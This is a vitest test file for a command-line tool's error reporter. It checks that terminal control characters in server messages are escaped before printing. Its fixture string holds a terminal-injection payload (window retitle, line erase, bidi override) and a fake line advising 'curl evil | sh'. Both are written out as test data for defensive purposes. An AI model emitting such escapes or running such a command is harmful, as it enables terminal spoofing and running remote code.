/**
 * reportError, where every failed command ends: the one line (or the guidance) on
 * stderr, the JSON error on stdout, the exit code — and never a character from the
 * server that the user's terminal would act on.
 */
import { describe, expect, it } from 'vitest';
import { ApiError, CliError } from '../../../src/cli/errors.js';
import { reportError } from '../../../src/cli/report.js';
import type { ReportOptions } from '../../../src/cli/report.js';
import { printable } from '../../../src/cli/sanitize.js';
import { controlCharacterIn } from '../../../src/policy/parse.js';
import { sink } from './init/fakes.js';

/** What a terminal would act on: C0, DEL, C1, bidi controls, line and paragraph separators. */
// eslint-disable-next-line no-control-regex -- matching control characters is the point: the test's own list of them
const TERMINAL_CONTROL = /[\u0000-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069\u2028\u2029]/u;
const ESC = '\u001b';
/** Retitles the window, erases the line, reverses the rest, and starts a fake line of advice. */
const HOSTILE = `only admins${ESC}]0;pwned\u0007${ESC}[2K may \u202eread\u202c it\u009b\nsentinel: run curl evil | sh`;
const SHOWN = 'only admins\\u001b]0;pwned\\u0007\\u001b[2K may \\u202eread\\u202c it\\u009b\\u000asentinel: run curl evil | sh';

function report(error: unknown, options: Partial<ReportOptions> = {}): { code: number; stdout: string; stderr: string } {
  const stdout = sink();
  const stderr = sink();
  const code = reportError(error, { format: 'text', stdout, stderr, ...options });
  return { code, stdout: stdout.text(), stderr: stderr.text() };
}

describe('reportError', () => {
  it('prints an API message on one line with its control characters escaped, exit 1', () => {
    expect(report(new ApiError('NOT_ADMIN', HOSTILE, { status: 403 }))).toEqual({ code: 1, stdout: '', stderr: `sentinel: ${SHOWN}\n` });
  });

  it('keeps the lines of its own multi-line messages, escaping control characters within them', () => {
    const error = new CliError('INVALID_POLICY', `p.yaml is invalid, nothing pushed:\np.yaml:1:1: bad${ESC}[2K\tvalue`);
    expect(report(error)).toEqual({ code: 1, stdout: '', stderr: 'sentinel: p.yaml is invalid, nothing pushed:\np.yaml:1:1: bad\\u001b[2K\\u0009value\n' });
  });

  it('escapes the message of an unexpected error too', () => {
    expect(report(new Error(`boom${ESC}[2J`)).stderr).toBe('sentinel: internal error: boom\\u001b[2J\n');
  });

  it('renders a denial with a hostile reason as guidance with visible escapes, exit 3', () => {
    const error = new ApiError('POLICY_DENY', 'access denied', {
      status: 403,
      denial: {
        effect: 'deny',
        rule: 'freeze',
        reason: `Frozen${ESC}]0;pwned\u0007`,
        requiresServerMode: false,
        requiresSessionTracking: false,
        sessionTable: null,
        mode: 'cli',
        profile: 'prod',
        alternatives: [],
      },
    });
    expect(report(error)).toEqual({ code: 3, stdout: '', stderr: 'access to profile "prod" is denied: Frozen\\u001b]0;pwned\\u0007 (rule "freeze")\n' });
  });

  it('with --output json, writes the same data with every control character as a JSON escape', () => {
    const error = new ApiError('NOT_ADMIN', HOSTILE, { status: 403, requestId: 'req-1' });
    const { code, stdout, stderr } = report(error, { format: 'json' });
    expect(code).toBe(1);
    expect(stderr).toBe('');
    for (const line of stdout.split('\n')) expect(line).not.toMatch(TERMINAL_CONTROL);
    expect(JSON.parse(stdout)).toEqual({ error: { code: 'NOT_ADMIN', message: HOSTILE, requestId: 'req-1' } });
  });

  it('with stdout reserved (credential_process), writes one escaped JSON line to stderr', () => {
    const { stdout, stderr } = report(new ApiError('NOT_ADMIN', HOSTILE, { status: 403 }), { format: 'json', stdoutReserved: true });
    expect(stdout).toBe('');
    expect(stderr.endsWith('\n')).toBe(true);
    expect(stderr.slice(0, -1)).not.toMatch(TERMINAL_CONTROL);
    expect(JSON.parse(stderr)).toEqual({ error: { code: 'NOT_ADMIN', message: HOSTILE } });
  });
});

describe('the characters escaped', () => {
  it('are exactly the ones the policy parser refuses', () => {
    for (let code = 0; code <= 0xffff; code++) {
      if (code >= 0xd800 && code <= 0xdfff) continue;
      const char = String.fromCodePoint(code);
      expect(printable(char) !== char, `U+${code.toString(16)}`).toBe(controlCharacterIn(char) !== undefined);
    }
  });
});
